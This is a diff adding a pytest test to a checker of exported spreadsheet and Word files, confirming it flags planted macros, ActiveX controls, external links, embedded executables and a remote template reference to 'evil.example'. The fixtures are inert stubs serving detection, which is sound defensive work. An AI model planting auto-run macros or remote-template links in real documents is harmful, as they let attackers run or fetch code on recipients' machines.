@@ -57,3 +57,28 @@ def test_a_sheet_that_claims_a_million_rows_is_not_walked_through() -> None:
             written.writestr(name, content)
     with pytest.raises(DecisionError, match="the sheet Summary holds more than is compared"):
         verify(enclosed_in(out.getvalue(), "x.xlsx"), out.getvalue(), "x.xlsx")
+
+
+@pytest.mark.parametrize(
+    ("part", "content", "note"),
+    [
+        ("xl/vbaProject.bin", b"Sub Auto_Open()", "holds macros or controls, and no export does"),
+        ("xl/activeX/activeX1.xml", b"<ocx/>", "holds macros or controls, and no export does"),
+        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>", "holds links to other files, and no export does"),
+        ("xl/embeddings/oleObject1.bin", b"MZ", "holds another file, and no export does"),
+        (
+            "word/_rels/settings.xml.rels",
+            b'<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/>',
+            "refers to a template or another document, and no export does",
+        ),
+    ],
+)
+def test_what_runs_or_fetches_something_was_put_in_and_is_found(part: str, content: bytes, note: str) -> None:
+    """Excel's own settings of a printer are none of that."""
+    raw = io.BytesIO(EXPORTED["minimal"])
+    with zipfile.ZipFile(raw, "a") as package:
+        package.writestr(part, content)
+        package.writestr("xl/printerSettings/printerSettings1.bin", b"x")
+    found = verify(enclosed_in(raw.getvalue(), "x.xlsx"), raw.getvalue(), "x.xlsx")
+    assert [(each.where, each.note) for each in found.findings] == [(part, note)]
+    assert not found.holds
